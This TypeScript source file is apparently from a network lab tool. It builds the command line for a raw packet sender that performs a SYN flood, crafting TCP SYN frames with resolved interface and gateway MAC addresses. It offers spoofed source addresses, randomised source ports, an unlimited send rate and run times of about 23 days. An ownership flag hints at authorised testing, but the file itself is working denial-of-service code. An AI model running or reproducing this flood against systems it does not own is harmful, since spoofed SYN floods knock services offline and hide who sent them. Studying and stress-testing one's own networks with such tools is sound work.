/** Command line of the raw sender for a SYN flood: which interface, which neighbour, which frame. */

import { execFile } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { LabError } from '../lab-error.js'
import { tcpPacket } from '../packet.js'
import { until } from '../until.js'
import type { Settings } from './mode.js'

const sender = fileURLToPath(new URL('../send', import.meta.url))
/** A source port that is overwritten in each frame. */
const anyPort = 40_000
/** The longest time `send` is asked for where there is no bound, s: about 23 days. */
const unboundS = 2_000_000

interface Way {
  readonly dev: string
  readonly gateway?: string
  readonly prefsrc?: string
}

/** @returns argv of `build/lab/send`. Throws LabError when the target cannot be reached. */
export async function synFlood(given: Settings): Promise<string[]> {
  const { target, spoofSrc, count, rate, durationS } = given
  const [way] = await ip<Way[]>('route', 'get', target)
  if (way === undefined) throw new LabError(`no route to ${target}`)
  const dev = given.iface || way.dev
  const source = spoofSrc.split('/')[0] || way.prefsrc || target
  const frame = tcpPacket({
    ...{ src: source, dst: target, srcPort: anyPort, dstPort: given.ports[0]!, flags: 'S', seq: 1 },
    srcMac: readFileSync(`/sys/class/net/${dev}/address`, 'utf8').trim(),
    dstMac: dev === 'lo' ? '00:00:00:00:00:00' : await macOf(way.gateway ?? target, dev, target),
  })
  return [
    ...[sender, 'flood', '--iface', dev, '--frame', Buffer.from(frame).toString('hex'), '--random-sport'],
    ...['--rate', rate === 0 ? 'max' : String(rate), '--duration', String(durationS || unboundS)],
    ...(count === 0 ? [] : ['--count', String(count)]),
    ...(spoofSrc === '' ? [] : ['--spoof-src', spoofSrc]),
    ...(given.ownsTarget ? ['--i-own-this-target'] : []),
  ]
}

/** MAC address of the next hop; a datagram to the target makes the kernel ask for it. */
async function macOf(hop: string, dev: string, target: string): Promise<string> {
  const known = async () => {
    const found = await ip<{ lladdr?: string }[]>('neigh', 'show', hop, 'dev', dev)
    return found[0]?.lladdr
  }
  const socket = createSocket(target.includes(':') ? 'udp6' : 'udp4').on('error', () => {})
  try {
    // Port 9 is discard (RFC 863).
    socket.send('', 9, target, () => {})
    return await until(known, {
      what: `${hop} answers for its address on ${dev}`,
      timeoutMs: 2_000,
      intervalMs: 50,
    })
  } finally {
    socket.close()
  }
}

async function ip<T>(...words: string[]): Promise<T> {
  const { stdout } = await promisify(execFile)('ip', ['-j', ...words])
  return JSON.parse(stdout.trim() || '[]') as T
}
